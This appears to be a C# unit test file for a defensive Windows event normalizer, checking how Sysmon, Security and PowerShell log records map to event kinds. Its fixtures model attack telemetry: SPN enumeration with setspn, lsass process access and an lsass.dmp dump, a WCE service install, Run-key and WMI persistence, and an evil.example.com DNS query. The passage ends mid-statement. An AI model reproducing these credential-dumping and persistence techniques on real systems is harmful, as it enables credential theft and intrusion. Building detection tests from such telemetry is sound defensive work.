using System;
using System.Collections.Generic;
using System.Linq;
using BehaviorBlocking.Sensors.Windows;
using BehaviorBlocking.Events;

namespace BehaviorBlocking.Tests.Events
{
    public class WindowsEventNormalizerTests
    {
        private const string Sysmon = "Microsoft-Windows-Sysmon/Operational";
        private const string Security = "Security";
        private const string SystemLog = "System";
        private const string TaskScheduler = "Microsoft-Windows-TaskScheduler/Operational";
        private const string PowerShellOperational = "Microsoft-Windows-PowerShell/Operational";
        private const string ClassicPowerShell = "Windows PowerShell";

        private static readonly DateTimeOffset s_created = new DateTimeOffset(2021, 2, 1, 11, 13, 11, TimeSpan.Zero).AddTicks(1959550);

        private static readonly Dictionary<string, MappingCase> s_cases = BuildCases();

        public static IEnumerable<object[]> CaseNames => s_cases.Keys.Select(name => new object[] { name });

        [Theory]
        [MemberData(nameof(CaseNames))]
        public void Normalize_MappedEvent_SetsKindAndKeyProperties(string caseName)
        {
            MappingCase mapping = s_cases[caseName];

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(mapping.Record);

            Assert.Equal(mapping.Kind, normalized.Kind);
            foreach (KeyValuePair<string, object?> expected in mapping.Expected)
            {
                object? actual = typeof(BehaviorEvent).GetProperty(expected.Key)!.GetValue(normalized);
                Assert.True(Equals(expected.Value, actual), $"{caseName}: {expected.Key} expected <{expected.Value}> but was <{actual}>");
            }
        }

        [Fact]
        public void CaseNames_EveryDocumentedMapping_IsCovered()
        {
            int[] sysmonIds = Enumerable.Range(1, 29).Concat(new[] { 255 }).ToArray();
            int[] securityIds =
            {
                4688, 4689, 4624, 4625, 4648, 4672, 4697, 4698, 4699, 4700, 4701, 4702, 4720, 4722, 4724, 4725, 4726, 4738, 4781,
                4728, 4729, 4732, 4733, 4756, 4757, 5140, 5142, 5143, 5144, 5145, 4768, 4769, 4770, 4771,
                4656, 4658, 4661, 4662, 4663, 4670, 5136, 5137, 1102, 4657,
            };
            var covered = new HashSet<(string, int)>(s_cases.Values.Select(c => (c.Record.Channel, c.Record.EventId)));

            Assert.All(sysmonIds, id => Assert.Contains((Sysmon, id), covered));
            Assert.All(securityIds, id => Assert.Contains((Security, id), covered));
            Assert.All(new[] { 7045, 104 }, id => Assert.Contains((SystemLog, id), covered));
            Assert.All(new[] { 106, 140, 141 }, id => Assert.Contains((TaskScheduler, id), covered));
            Assert.All(new[] { 4103, 4104, 40961, 40962 }, id => Assert.Contains((PowerShellOperational, id), covered));
            Assert.All(new[] { 400, 403, 600, 800 }, id => Assert.Contains((ClassicPowerShell, id), covered));
        }

        [Fact]
        public void Normalize_AnyRecord_CopiesHeaderAndKeepsSameFieldList()
        {
            var fields = new[] { Field("Image", @"C:\Windows\System32\cmd.exe"), Field("ProcessId", "42") };
            var record = new EventRecord
            {
                EventId = 5,
                Channel = Sysmon,
                Provider = "Microsoft-Windows-Sysmon",
                Computer = "ws01.example.lan",
                TimeCreated = s_created,
                RecordId = 4711,
                Fields = fields,
                SourceFile = "recordings/a.jsonl.gz",
                SourceLine = 17,
            };

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Same(fields, normalized.Fields);
            Assert.Equal("ws01.example.lan", normalized.Host);
            Assert.Equal(Sysmon, normalized.Channel);
            Assert.Equal("Microsoft-Windows-Sysmon", normalized.Provider);
            Assert.Equal(5, normalized.EventId);
            Assert.Equal(4711L, normalized.RecordId);
            Assert.Equal("recordings/a.jsonl.gz", normalized.SourceFile);
            Assert.Equal(17L, normalized.SourceLine);
            Assert.Equal(s_created, normalized.Time);
        }

        [Fact]
        public void Normalize_UnknownChannel_ReturnsOtherWithFieldsKept()
        {
            var fields = new[] { Field("ProcessId", "77"), Field("payload", "x") };
            EventRecord record = Record("OpenSSH/Operational", 4, fields);

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(EventKind.Other, normalized.Kind);
            Assert.Same(fields, normalized.Fields);
            Assert.Equal("x", normalized.GetField("PAYLOAD"));
            Assert.Null(normalized.ProcessId);
        }

        [Fact]
        public void Normalize_UnknownSecurityEvent_ReturnsOtherWithActorProcess()
        {
            EventRecord record = Record(Security, 4673,
                Field("SubjectUserName", "admmig"), Field("SubjectDomainName", "OFFSEC"),
                Field("ProcessId", "0x1f4"), Field("ProcessName", @"C:\Windows\System32\lsass.exe"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(EventKind.Other, normalized.Kind);
            Assert.Equal(500, normalized.ProcessId);
            Assert.Equal(@"C:\Windows\System32\lsass.exe", normalized.Image);
            Assert.Equal(@"OFFSEC\admmig", normalized.User);
            Assert.Equal(4, normalized.Fields.Count);
        }

        [Fact]
        public void Normalize_SecurityHexProcessIds_ParsesNewAndParentIds()
        {
            EventRecord record = Record(Security, 4688,
                Field("NewProcessId", "0x0000000000000e74"), Field("ProcessId", "0x1a2c"), Field("NewProcessName", @"C:\Windows\System32\cmd.exe"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(0xe74, normalized.ProcessId);
            Assert.Equal(0x1a2c, normalized.ParentProcessId);
        }

        [Fact]
        public void Normalize_PlaceholderValues_BecomeNull()
        {
            EventRecord record = Record(Security, 4624,
                Field("SubjectUserName", "-"), Field("SubjectDomainName", "-"),
                Field("TargetUserName", "ANONYMOUS LOGON"), Field("TargetDomainName", "NT AUTHORITY"),
                Field("LogonType", "3"), Field("IpAddress", "-"), Field("IpPort", "-"),
                Field("ProcessId", "0x0"), Field("ProcessName", "-"), Field("AuthenticationPackageName", ""));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Null(normalized.User);
            Assert.Null(normalized.DestinationIp);
            Assert.Null(normalized.DestinationPort);
            Assert.Null(normalized.ProcessId);
            Assert.Null(normalized.Image);
            Assert.Null(normalized.Details);
            Assert.Equal(@"NT AUTHORITY\ANONYMOUS LOGON", normalized.TargetName);
        }

        [Fact]
        public void Normalize_ZeroHexNameAndZeroGuid_BecomeNull()
        {
            EventRecord record = Record(Sysmon, 1,
                Field("UtcTime", "2021-02-01 11:13:11.180"), Field("ProcessGuid", "{7cf65fc7-e247-6017-0804-000000001b00}"),
                Field("ParentProcessGuid", "{00000000-0000-0000-0000-000000000000}"), Field("Hashes", "0x0000"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Null(normalized.ParentProcessGuid);
            Assert.Null(normalized.Hashes);
            Assert.Equal("{7cf65fc7-e247-6017-0804-000000001b00}", normalized.ProcessGuid);
        }

        [Fact]
        public void Normalize_MalformedOptionalFields_LeavesThemNullWithoutThrowing()
        {
            EventRecord record = Record(Sysmon, 3,
                Field("UtcTime", "2021-02-01 11:13:11.180"), Field("ProcessId", "12ab"), Field("SourcePort", "99999999999"),
                Field("DestinationPort", "0x"), Field("Initiated", "maybe"), Field("DestinationIp", "10.0.0.1"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(EventKind.NetworkConnect, normalized.Kind);
            Assert.Null(normalized.ProcessId);
            Assert.Null(normalized.SourcePort);
            Assert.Null(normalized.DestinationPort);
            Assert.Null(normalized.Initiated);
            Assert.Equal("10.0.0.1", normalized.DestinationIp);
        }

        [Fact]
        public void Normalize_FieldNamesInAnyCase_AreFound()
        {
            EventRecord record = Record(Sysmon, 10,
                Field("sourceprocessguid", "{AAAAAAAA-1111-2222-3333-444444444444}"), Field("SOURCEPROCESSID", "4"),
                Field("targetprocessGuid", "{bbbbbbbb-1111-2222-3333-444444444444}"), Field("grantedaccess", "0x1010"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal("{AAAAAAAA-1111-2222-3333-444444444444}", normalized.ProcessGuid);
            Assert.Equal(4, normalized.ProcessId);
            Assert.Equal("{bbbbbbbb-1111-2222-3333-444444444444}", normalized.TargetProcessGuid);
            Assert.Equal("0x1010", normalized.Details);
        }

        [Fact]
        public void Normalize_SysmonUtcTime_PreferredOverTimeCreated()
        {
            EventRecord record = Record(Sysmon, 11, Field("UtcTime", "2021-02-01 11:13:10.123"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(new DateTimeOffset(2021, 2, 1, 11, 13, 10, 123, TimeSpan.Zero), normalized.Time);
        }

        [Fact]
        public void Normalize_SysmonIsoUtcTime_Parsed()
        {
            EventRecord record = Record(Sysmon, 3, Field("UtcTime", "2022-05-13T08:54:05.1230000Z"));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(new DateTimeOffset(2022, 5, 13, 8, 54, 5, 123, TimeSpan.Zero), normalized.Time);
        }

        [Theory]
        [InlineData("2021-02-30 11:13:10.123")]
        [InlineData("not a time")]
        [InlineData("2021-02-01 11:13:10.")]
        [InlineData("-")]
        public void Normalize_SysmonUtcTimeMalformed_FallsBackToTimeCreated(string utcTime)
        {
            EventRecord record = Record(Sysmon, 11, Field("UtcTime", utcTime));

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(s_created, normalized.Time);
        }

        [Fact]
        public void Normalize_SysmonWithoutTimeCreated_UsesUtcTime()
        {
            var record = new EventRecord { EventId = 1, Channel = Sysmon, Fields = new[] { Field("UtcTime", "2021-02-01 11:13:10.5") } };

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(new DateTimeOffset(2021, 2, 1, 11, 13, 10, 500, TimeSpan.Zero), normalized.Time);
        }

        [Fact]
        public void Normalize_TimeCreatedWithOffset_ReturnedAsUtc()
        {
            var record = new EventRecord { EventId = 4688, Channel = Security, TimeCreated = new DateTimeOffset(2021, 2, 1, 12, 0, 0, TimeSpan.FromHours(2)) };

            BehaviorEvent normalized = new WindowsEventNormalizer().Normalize(record);

            Assert.Equal(TimeSpan.Zero, normalized.Time.Offset);
            Assert.Equal(new DateTimeOffset(2021, 2, 1, 10, 0, 0, TimeSpan.Zero), normalized.Time);
        }

        [Theory]
        [InlineData(Security, 4688, null)]
        [InlineData(Sysmon, 1, null)]
        [InlineData(Sysmon, 1, "garbage")]
        public void Normalize_NoTimeAtAll_ThrowsEventTimeMissing(string channel, int eventId, string? utcTime)
        {
            var fields = utcTime is null ? Array.Empty<KeyValuePair<string, string>>() : new[] { Field("UtcTime", utcTime) };
            var record = new EventRecord { EventId = eventId, Channel = channel, Fields = fields, SourceFile = "x/rec.jsonl.gz", SourceLine = 99 };

            BehaviorBlockingException error = Assert.Throws<BehaviorBlockingException>(() => new WindowsEventNormalizer().Normalize(record));

            Assert.Equal("EventTimeMissing", error.ErrorId);
            Assert.Equal(WindowsEventNormalizer.EventTimeMissingErrorId, error.ErrorId);
            Assert.Equal(FailureKind.InvalidData, error.Kind);
            Assert.Contains("x/rec.jsonl.gz:99", error.Message, StringComparison.Ordinal);
            Assert.Same(record, error.Target);
        }

        [Fact]
        public void Normalize_NullRecord_ThrowsArgumentNull()
        {
            Assert.Throws<ArgumentNullException>(() => new WindowsEventNormalizer().Normalize(null!));
        }

        private static Dictionary<string, MappingCase> BuildCases()
        {
            var cases = new Dictionary<string, MappingCase>(StringComparer.Ordinal);

            void Add(string name, EventRecord record, EventKind kind, params (string Property, object? Value)[] expected) =>
                cases.Add(name, new MappingCase(record, kind, expected.ToDictionary(e => e.Property, e => e.Value)));

            const string ProcessGuid = "{7cf65fc7-e247-6017-0804-000000001b00}";
            const string Image = @"C:\Windows\System32\setspn.exe";
            const string Hashes = "SHA1=3B8C77CC25CF382D51B418CB9738BA99C3FDBAA9,MD5=C729DEA1888B1B047F51844BA5BD875F";
            KeyValuePair<string, string>[] SysmonActor(params KeyValuePair<string, string>[] more) =>
                new[] { Field("RuleName", "-"), Field("UtcTime", "2021-02-01 11:13:11.180"), Field("ProcessGuid", ProcessGuid), Field("ProcessId", "3360"), Field("Image", Image), Field("User", @"OFFSEC\admmig") }
                    .Concat(more).ToArray();
            (string, object?)[] Actor(params (string, object?)[] more) =>
                new (string, object?)[] { ("ProcessGuid", ProcessGuid), ("ProcessId", 3360), ("Image", Image), ("User", @"OFFSEC\admmig") }.Concat(more).ToArray();

            // Sysmon
            Add("Sysmon 1 process create", Record(Sysmon, 1, SysmonActor(
                    Field("CommandLine", "setspn  -T offsec -Q */*"), Field("Hashes", Hashes),
                    Field("ParentProcessGuid", "{7cf65fc7-1ff0-6015-5b02-000000001b00}"), Field("ParentProcessId", "1468"),
                    Field("ParentImage", @"C:\Windows\System32\cmd.exe"), Field("ParentCommandLine", "\"C:\\Windows\\system32\\cmd.exe\" "))),
                EventKind.ProcessStart, Actor(("CommandLine", "setspn  -T offsec -Q */*"), ("Hashes", Hashes),
                    ("ParentProcessGuid", "{7cf65fc7-1ff0-6015-5b02-000000001b00}"), ("ParentProcessId", 1468),
                    ("ParentImage", @"C:\Windows\System32\cmd.exe"), ("ParentCommandLine", "\"C:\\Windows\\system32\\cmd.exe\" "),
                    ("Time", new DateTimeOffset(2021, 2, 1, 11, 13, 11, 180, TimeSpan.Zero))));
            Add("Sysmon 2 file creation time", Record(Sysmon, 2, SysmonActor(Field("TargetFilename", @"C:\t\a.exe"), Field("CreationUtcTime", "2019-01-01 00:00:00.000"), Field("PreviousCreationUtcTime", "2021-02-01 11:00:00.000"))),
                EventKind.FileModify, Actor(("TargetPath", @"C:\t\a.exe"), ("Details", "2019-01-01 00:00:00.000")));
            Add("Sysmon 3 network connect", Record(Sysmon, 3, SysmonActor(
                    Field("Protocol", "tcp"), Field("Initiated", "true"), Field("SourceIsIpv6", "false"), Field("SourceIp", "10.23.42.38"), Field("SourcePort", "62095"),
                    Field("DestinationIp", "10.23.123.11"), Field("DestinationHostname", "dc01.offsec.lan"), Field("DestinationPort", "443"))),
                EventKind.NetworkConnect, Actor(("Protocol", "tcp"), ("Initiated", true), ("SourceIp", "10.23.42.38"), ("SourcePort", 62095),
                    ("DestinationIp", "10.23.123.11"), ("DestinationPort", 443), ("DestinationHostname", "dc01.offsec.lan")));
            Add("Sysmon 4 state", Record(Sysmon, 4, Field("UtcTime", "2020-09-04 07:08:05.983"), Field("State", "Started"), Field("SchemaVersion", "4.32")),
                EventKind.SensorState, ("Details", "Started"));
            Add("Sysmon 5 process exit", Record(Sysmon, 5, SysmonActor()), EventKind.ProcessExit, Actor());
            Add("Sysmon 6 driver load", Record(Sysmon, 6, Field("UtcTime", "2021-02-01 11:13:11.180"), Field("ImageLoaded", @"C:\Windows\System32\drivers\evil.sys"), Field("Hashes", Hashes), Field("Signed", "false")),
                EventKind.DriverLoad, ("TargetPath", @"C:\Windows\System32\drivers\evil.sys"), ("Hashes", Hashes), ("ProcessId", null));
            Add("Sysmon 7 image load", Record(Sysmon, 7, SysmonActor(Field("ImageLoaded", @"C:\Windows\System32\comsvcs.dll"), Field("Hashes", Hashes))),
                EventKind.ImageLoad, Actor(("TargetPath", @"C:\Windows\System32\comsvcs.dll"), ("Hashes", Hashes)));
            Add("Sysmon 8 remote thread", Record(Sysmon, 8,
                    Field("UtcTime", "2020-09-22 06:01:02.003"), Field("SourceProcessGuid", "{b34bc01c-22a4-5f69-9900-000000000900}"), Field("SourceProcessId", "5344"),
                    Field("SourceImage", @"C:\Windows\System32\dwm.exe"), Field("TargetProcessGuid", "{b34bc01c-22a3-5f69-9600-000000000900}"), Field("TargetProcessId", "5220"),
                    Field("TargetImage", @"C:\Windows\System32\csrss.exe"), Field("NewThreadId", "6028"), Field("StartAddress", "0xFFFFEF60CA462460"),
                    Field("StartModule", @"C:\Windows\System32\kernel32.dll"), Field("StartFunction", "LoadLibraryW"), Field("SourceUser", @"NT AUTHORITY\SYSTEM")),
                EventKind.RemoteThread, ("ProcessGuid", "{b34bc01c-22a4-5f69-9900-000000000900}"), ("ProcessId", 5344), ("Image", @"C:\Windows\System32\dwm.exe"),
                ("User", @"NT AUTHORITY\SYSTEM"), ("TargetProcessGuid", "{b34bc01c-22a3-5f69-9600-000000000900}"), ("TargetProcessId", 5220),
                ("TargetImage", @"C:\Windows\System32\csrss.exe"), ("TargetPath", @"C:\Windows\System32\kernel32.dll"), ("TargetName", "LoadLibraryW"), ("Details", "0xFFFFEF60CA462460"));
            Add("Sysmon 9 raw disk", Record(Sysmon, 9, SysmonActor(Field("Device", @"\Device\HarddiskVolume2"))),
                EventKind.RawDiskAccess, Actor(("TargetPath", @"\Device\HarddiskVolume2")));
            Add("Sysmon 10 process access", Record(Sysmon, 10,
                    Field("UtcTime", "2021-10-20 14:18:56.105"), Field("SourceProcessGUID", "{7cf65fc7-2550-6170-9602-000000001200}"), Field("SourceProcessId", "2860"),
                    Field("SourceThreadId", "544"), Field("SourceImage", @"C:\Windows\System32\rundll32.exe"), Field("TargetProcessGUID", "{7cf65fc7-6649-6165-0b00-000000001200}"),
                    Field("TargetProcessId", "512"), Field("TargetImage", @"C:\Windows\system32\lsass.exe"), Field("GrantedAccess", "0x001fffff"),
                    Field("CallTrace", @"C:\Windows\SYSTEM32\ntdll.dll+909ba"), Field("SourceUser", @"OFFSEC\admmig"), Field("TargetUser", @"NT AUTHORITY\SYSTEM")),
                EventKind.ProcessAccess, ("ProcessGuid", "{7cf65fc7-2550-6170-9602-000000001200}"), ("ProcessId", 2860), ("Image", @"C:\Windows\System32\rundll32.exe"),
                ("User", @"OFFSEC\admmig"), ("TargetProcessGuid", "{7cf65fc7-6649-6165-0b00-000000001200}"), ("TargetProcessId", 512),
                ("TargetImage", @"C:\Windows\system32\lsass.exe"), ("Details", "0x001fffff"));
            Add("Sysmon 11 file create", Record(Sysmon, 11, SysmonActor(Field("TargetFilename", @"C:\Users\admmig\lsass.dmp"), Field("CreationUtcTime", "2021-02-01 11:13:11.180"))),
                EventKind.FileCreate, Actor(("TargetPath", @"C:\Users\admmig\lsass.dmp")));
            Add("Sysmon 12 create key", Record(Sysmon, 12, SysmonActor(Field("EventType", "CreateKey"), Field("TargetObject", @"HKLM\SOFTWARE\Evil"))),
                EventKind.RegistryCreate, Actor(("TargetPath", @"HKLM\SOFTWARE\Evil")));
            Add("Sysmon 12 delete key", Record(Sysmon, 12, SysmonActor(Field("EventType", "DeleteKey"), Field("TargetObject", @"HKLM\SOFTWARE\Evil"))),
                EventKind.RegistryDelete, Actor(("TargetPath", @"HKLM\SOFTWARE\Evil")));
            Add("Sysmon 12 delete value", Record(Sysmon, 12, SysmonActor(Field("EventType", "DeleteValue"), Field("TargetObject", @"HKLM\SOFTWARE\Evil\v"))),
                EventKind.RegistryDelete, Actor(("TargetPath", @"HKLM\SOFTWARE\Evil\v")));
            Add("Sysmon 12 without event type", Record(Sysmon, 12, Field("UtcTime", "2020-09-21 22:58:29.718"), Field("TargetObject", @"HKLM\SOFTWARE\x"), Field("ProcessGuid", ProcessGuid)),
                EventKind.RegistryCreate, ("TargetPath", @"HKLM\SOFTWARE\x"), ("ProcessGuid", ProcessGuid), ("ProcessId", null));
            Add("Sysmon 13 set value", Record(Sysmon, 13, SysmonActor(Field("EventType", "SetValue"), Field("TargetObject", @"HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\x"), Field("Details", @"C:\evil.exe"))),
                EventKind.RegistrySet, Actor(("TargetPath", @"HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\x"), ("Details", @"C:\evil.exe")));
            Add("Sysmon 14 rename", Record(Sysmon, 14, SysmonActor(Field("EventType", "RenameKey"), Field("TargetObject", @"HKLM\SOFTWARE\a"), Field("NewName", @"HKLM\SOFTWARE\b"))),
                EventKind.RegistryRename, Actor(("TargetPath", @"HKLM\SOFTWARE\a"), ("TargetName", @"HKLM\SOFTWARE\b")));
            Add("Sysmon 15 stream hash", Record(Sysmon, 15, SysmonActor(Field("TargetFilename", @"C:\d\a.exe:Zone.Identifier"), Field("Hash", Hashes), Field("Contents", "[ZoneTransfer]  ZoneId=3"))),
                EventKind.FileModify, Actor(("TargetPath", @"C:\d\a.exe:Zone.Identifier"), ("Hashes", Hashes), ("Details", "[ZoneTransfer]  ZoneId=3")));
            Add("Sysmon 15 stream hash without contents", Record(Sysmon, 15, SysmonActor(Field("TargetFilename", @"C:\d\a.exe:x"), Field("Contents", "-"))),
                EventKind.FileModify, ("Details", null));
            Add("Sysmon 16 config change", Record(Sysmon, 16, Field("UtcTime", "2021-02-01 11:13:11.180"), Field("Configuration", @"C:\sysmon.xml"), Field("ConfigurationFileHash", "SHA256=AB")),
                EventKind.SensorState, ("TargetPath", @"C:\sysmon.xml"), ("Details", "SHA256=AB"));
            Add("Sysmon 17 pipe created", Record(Sysmon, 17, SysmonActor(Field("EventType", "CreatePipe"), Field("PipeName", @"\msagent_12"))),
                EventKind.PipeCreate, Actor(("TargetPath", @"\msagent_12")));
            Add("Sysmon 18 pipe connected", Record(Sysmon, 18, SysmonActor(Field("EventType", "ConnectPipe"), Field("PipeName", @"\lsass"))),
                EventKind.PipeConnect, Actor(("TargetPath", @"\lsass")));
            Add("Sysmon 19 wmi filter", Record(Sysmon, 19, Field("UtcTime", "2021-06-09 19:29:58.239"), Field("Operation", "Created"), Field("User", @"OFFSEC\admmig"),
                    Field("EventNamespace", " \"root/cimv2\""), Field("Name", " \"Evil\""), Field("Query", " \"SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'\"")),
                EventKind.WmiSubscription, ("User", @"OFFSEC\admmig"), ("TargetPath", "root/cimv2"), ("TargetName", "Evil"),
                ("Details", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'"));
            Add("Sysmon 20 wmi consumer", Record(Sysmon, 20, Field("UtcTime", "2021-06-09 19:29:58.224"), Field("User", @"OFFSEC\admmig"), Field("Name", " \"Evil\""),
                    Field("Type", "Command Line"), Field("Destination", " \"cmd.exe /c echo %ProcessId%\"")),
                EventKind.WmiSubscription, ("User", @"OFFSEC\admmig"), ("TargetName", "Evil"), ("Details", "cmd.exe /c echo %ProcessId%"));
            Add("Sysmon 21 wmi binding", Record(Sysmon, 21, Field("UtcTime", "2019-12-05 04:47:55.353"), Field("User", @"shire\pgustavo"),
                    Field("Consumer", " \"CommandLineEventConsumer.Name=\\\"Evil Persistence\\\"\""), Field("Filter", " \"__EventFilter.Name=\\\"Evil Persistence\\\"\"")),
                EventKind.WmiSubscription, ("User", @"shire\pgustavo"), ("TargetName", "CommandLineEventConsumer.Name=\\\"Evil Persistence\\\""),
                ("Details", "__EventFilter.Name=\\\"Evil Persistence\\\""));
            Add("Sysmon 22 dns query", Record(Sysmon, 22, SysmonActor(Field("QueryName", "evil.example.com"), Field("QueryStatus", "0"), Field("QueryResults", "::ffff:10.0.0.9;"))),
                EventKind.DnsQuery, Actor(("TargetName", "evil.example.com"), ("Details", "::ffff:10.0.0.9;")));
            foreach (int id in new[] { 23, 26, 28 })
            {
                Add($"Sysmon {id} file delete", Record(Sysmon, id, SysmonActor(Field("TargetFilename", @"C:\t\x.exe"), Field("Hashes", Hashes), Field("IsExecutable", "true"))),
                    EventKind.FileDelete, Actor(("TargetPath", @"C:\t\x.exe"), ("Hashes", Hashes)));
            }

            Add("Sysmon 24 clipboard", Record(Sysmon, 24, SysmonActor(Field("Session", "1"), Field("ClientInfo", "user: DESKTOP\\pedro"), Field("Hashes", Hashes), Field("Archived", "true"))),
                EventKind.ClipboardChange, Actor(("Hashes", Hashes)));
            Add("Sysmon 25 tampering", Record(Sysmon, 25, SysmonActor(Field("Type", "Image is replaced"))),
                EventKind.ProcessTampering, Actor(("TargetProcessGuid", ProcessGuid), ("TargetProcessId", 3360), ("TargetImage", Image), ("Details", "Image is replaced")));
            Add("Sysmon 27 executable blocked", Record(Sysmon, 27, SysmonActor(Field("TargetFilename", @"C:\t\x.exe"), Field("Hashes", Hashes))),
                EventKind.Other, Actor(("TargetPath", @"C:\t\x.exe"), ("Hashes", Hashes)));
            Add("Sysmon 29 executable detected", Record(Sysmon, 29, SysmonActor(Field("TargetFilename", @"C:\Users\u\Downloads\a.tmp"), Field("Hashes", Hashes))),
                EventKind.FileCreate, Actor(("TargetPath", @"C:\Users\u\Downloads\a.tmp"), ("Hashes", Hashes)));
            Add("Sysmon 255 error", Record(Sysmon, 255, Field("UtcTime", "2020-09-04 07:07:28.591"), Field("ID", "GetConfigurationOptions"), Field("Description", "Failed to open service configuration")),
                EventKind.SensorState, ("TargetName", "GetConfigurationOptions"), ("Details", "Failed to open service configuration"));
            Add("Sysmon unknown id", Record(Sysmon, 99, SysmonActor()), EventKind.Other, Actor());

            // Security
            KeyValuePair<string, string>[] Subject(params KeyValuePair<string, string>[] more) =>
                new[] { Field("SubjectUserSid", "S-1-5-21-1-2-3-1111"), Field("SubjectUserName", "admmig"), Field("SubjectDomainName", "OFFSEC"), Field("SubjectLogonId", "0x1f4c65f") }
                    .Concat(more).ToArray();

            Add("Security 4688 process create", Record(Security, 4688, Subject(
                    Field("NewProcessId", "0x0000000000000e74"), Field("NewProcessName", @"C:\Windows\System32\cmd.exe"), Field("TokenElevationType", "%%1936"),
                    Field("ProcessId", "0x1a2c"), Field("CommandLine", "cmd.exe /c whoami"), Field("TargetUserSid", "S-1-0-0"), Field("TargetUserName", "svc"),
                    Field("TargetDomainName", "OFFSEC"), Field("ParentProcessName", @"C:\Windows\System32\wsmprovhost.exe"))),
                EventKind.ProcessStart, ("ProcessId", 0xe74), ("ParentProcessId", 0x1a2c), ("Image", @"C:\Windows\System32\cmd.exe"),
                ("ParentImage", @"C:\Windows\System32\wsmprovhost.exe"), ("CommandLine", "cmd.exe /c whoami"), ("User", @"OFFSEC\svc"));
            Add("Security 4688 subject user when target is dash", Record(Security, 4688, Subject(
                    Field("NewProcessId", "0x6fc"), Field("ProcessId", "0xfc8"), Field("TargetUserName", "-"), Field("TargetDomainName", "-"))),
                EventKind.ProcessStart, ("User", @"OFFSEC\admmig"), ("ProcessId", 0x6fc), ("ParentProcessId", 0xfc8));
            Add("Security 4689 process exit", Record(Security, 4689, Subject(Field("Status", "0x0"), Field("ProcessId", "0xe74"), Field("ProcessName", @"C:\Windows\System32\cmd.exe"))),
                EventKind.ProcessExit, ("ProcessId", 0xe74), ("Image", @"C:\Windows\System32\cmd.exe"), ("User", @"OFFSEC\admmig"));

            KeyValuePair<string, string>[] LogonFields(params KeyValuePair<string, string>[] more) => Subject(
                    Field("TargetUserName", "admmig"), Field("TargetDomainName", "OFFSEC"), Field("LogonType", "3"), Field("LogonProcessName", "NtLmSsp "),
                    Field("AuthenticationPackageName", "NTLM"), Field("ProcessId", "0x300"), Field("ProcessName", @"C:\Windows\System32\svchost.exe"),
                    Field("IpAddress", "::ffff:10.23.123.11"), Field("IpPort", "41747"))
                .Concat(more).ToArray();
            Add("Security 4624 logon", Record(Security, 4624, LogonFields()),
                EventKind.Logon, ("LogonType", 3), ("TargetName", @"OFFSEC\admmig"), ("User", @"OFFSEC\admmig"), ("DestinationIp", "10.23.123.11"),
                ("DestinationPort", 41747), ("ProcessId", 0x300), ("Image", @"C:\Windows\System32\svchost.exe"), ("Details", "NTLM"));
            Add("Security 4625 logon failed", Record(Security, 4625, LogonFields(Field("Status", "0xc000006d"), Field("SubStatus", "0xc000006a"))),
                EventKind.LogonFailed, ("LogonType", 3), ("TargetName", @"OFFSEC\admmig"), ("DestinationIp", "10.23.123.11"), ("Details", "0xc000006a"));
            Add("Security 4625 status when substatus is zero", Record(Security, 4625, LogonFields(Field("Status", "0xc000006e"), Field("SubStatus", "0x00000000"))),
                EventKind.LogonFailed, ("Details", "0xc000006e"));
            Add("Security 4648 explicit credentials", Record(Security, 4648, Subject(
                    Field("TargetUserName", "Administrator"), Field("TargetDomainName", "OFFSEC"), Field("TargetServerName", "dc01.offsec.lan"),
                    Field("TargetInfo", "dc01.offsec.lan"), Field("ProcessId", "0x1b0"), Field("ProcessName", @"C:\Windows\System32\lsass.exe"),
                    Field("IpAddress", "-"), Field("IpPort", "-"))),
                EventKind.ExplicitCredentialLogon, ("User", @"OFFSEC\admmig"), ("TargetName", @"OFFSEC\Administrator"), ("TargetPath", "dc01.offsec.lan"),
                ("Details", "dc01.offsec.lan"), ("ProcessId", 0x1b0), ("Image", @"C:\Windows\System32\lsass.exe"), ("DestinationIp", null));
            Add("Security 4672 special privileges", Record(Security, 4672, Subject(Field("PrivilegeList", "SeDebugPrivilege"))),
                EventKind.PrivilegedLogon, ("User", @"OFFSEC\admmig"), ("Details", "SeDebugPrivilege"));
            Add("Security 4697 service install", Record(Security, 4697, Subject(
                    Field("ServiceName", "WCESERVICE"), Field("ServiceFileName", @"C:\t\wce.exe"), Field("ServiceType", "0x10"), Field("ServiceStartType", "3"),
                    Field("ServiceAccount", "LocalSystem"), Field("ClientProcessId", "1234"))),
                EventKind.ServiceInstall, ("TargetName", "WCESERVICE"), ("TargetPath", @"C:\t\wce.exe"), ("Details", "LocalSystem"), ("ProcessId", 1234), ("User", @"OFFSEC\admmig"));
            foreach (int id in new[] { 4698, 4699, 4700, 4701 })
            {
                Add($"Security {id} scheduled task", Record(Security, id, Subject(Field("TaskName", @"\Evil"), Field("TaskContent", "<Task/>"))),
                    EventKind.ScheduledTask, ("TargetName", @"\Evil"), ("Details", "<Task/>"), ("User", @"OFFSEC\admmig"));
            }

            Add("Security 4702 scheduled task updated", Record(Security, 4702, Subject(Field("TaskName", @"\Evil"), Field("TaskContentNew", "<Task v2/>"), Field("ClientProcessId", "88"))),
                EventKind.ScheduledTask, ("TargetName", @"\Evil"), ("Details", "<Task v2/>"), ("ProcessId", 88));
            foreach (int id in new[] { 4720, 4722, 4724, 4725, 4726, 4738 })
            {
                Add($"Security {id} account change", Record(Security, id, Subject(Field("TargetUserName", "honey-pot1"), Field("TargetDomainName", "OFFSEC"), Field("TargetSid", "S-1-5-21-1-2-3-2001"))),
